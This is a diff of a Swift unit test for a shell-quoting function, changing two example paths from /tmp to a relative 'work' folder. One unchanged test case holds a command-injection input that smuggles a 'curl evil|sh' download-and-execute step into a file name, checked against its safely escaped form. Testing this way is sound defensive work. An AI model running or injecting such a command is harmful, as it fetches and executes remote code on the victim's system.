@@ -3,8 +3,8 @@ import Testing
 
 @Suite struct ShellWords {
     @Test(arguments: [
-        ("/tmp/My App", "'/tmp/My App'"),
-        ("/tmp/Bob's App", #"'/tmp/Bob'\''s App'"#),
+        ("work/My App", "'work/My App'"),
+        ("work/Bob's App", #"'work/Bob'\''s App'"#),
         ("x';curl evil|sh;'", #"'x'\'';curl evil|sh;'\'''"#),
         ("", "''"),
     ])
